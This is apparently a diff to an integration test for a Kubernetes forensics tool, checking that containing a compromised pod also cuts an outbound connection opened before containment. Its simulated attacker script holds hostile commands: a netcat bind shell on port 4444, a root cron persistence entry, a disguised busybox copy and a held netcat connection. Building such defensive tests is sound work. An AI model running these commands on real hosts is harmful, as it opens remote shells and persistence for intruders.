@@ -1,5 +1,6 @@
 import { CoreV1Api } from '@kubernetes/client-node';
 import { createConnection, createServer, type Server, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { S3EvidenceStore } from '../../../src/evidence/s3-store.js';
 import { verifyCase } from '../../../src/evidence/verify.js';
@@ -82,14 +83,17 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
   }, 120_000);
 
   it('contains the suspect, runs the Job on the node, seals what it did; verify passes', async () => {
+    // The attacker's outbound connection, opened before containment: the peer sends a line every
+    // 200 ms for as long as packets get through.
     const peer = await pods.run('shop', 'peer', node.images.busybox!.ref, [
       'nc',
       '-ll',
       '-p',
       '8080',
       '-e',
-      'sleep',
-      '3600',
+      'sh',
+      '-c',
+      'while true; do echo tick; sleep 0.2; done',
     ]);
     const attacker = [
       // busybox runs the applet its file is named after: the dropped copy is a "sleep".
@@ -99,7 +103,7 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
       'mkdir -p /var/spool/cron/crontabs && echo "* * * * * nc 10.244.0.250 9" > /var/spool/cron/crontabs/root',
       'nc -ll -p 4444 -e sh &',
       // A connection held open: nc ends when its stdin does, and a background job's is /dev/null.
-      `sleep 3600 | nc ${peer.status!.podIP} 8080 &`,
+      `sleep 3600 | nc ${peer.status!.podIP} 8080 > /tmp/ticks &`,
       'echo attacker ready',
       'exec sleep 3600',
     ].join('\n');
@@ -109,6 +113,11 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
       () => pods.logs('shop', 'suspect'),
       (l) => l.includes('attacker ready'),
     );
+
+    const ticks = async () =>
+      Number((await pods.exec('shop', 'suspect', ['sh', '-c', 'wc -c < /tmp/ticks'])).stdout.trim());
+    const before = await waitFor('ticks over the held connection', ticks, (n) => n > 0);
+    await waitFor('more ticks', ticks, (n) => n > before);
 
     const started = Date.now();
     await w.createCase('case-node', {
@@ -193,6 +202,20 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
     expect(network).toContain(peer.status!.podIP!);
     // The container's log, read through the API server and the kubelet.
     expect(await read('orchestrator/logs/main.current.log')).toContain('attacker ready');
+
+    // The connection opened before containment: in the socket table, then cut on the node, so
+    // the deny-all policy applies to it too. Nothing more arrives over it.
+    const cut = JSON.parse(await read(`${dir}/connections-cut.json`)) as {
+      flows: { address: string; direction: string; deleted?: number }[];
+    };
+    const suspectIP = (await pods.core.readNamespacedPod({ namespace: 'shop', name: 'suspect' })).status!
+      .podIP!;
+    expect(
+      cut.flows.filter((f) => f.address === suspectIP).reduce((n, f) => n + (f.deleted ?? 0), 0),
+    ).toBeGreaterThan(0);
+    const afterCut = await ticks();
+    await sleep(2_000); // a negative: ten ticks' time, and none may arrive
+    expect(await ticks()).toBe(afterCut);
   });
 });
 
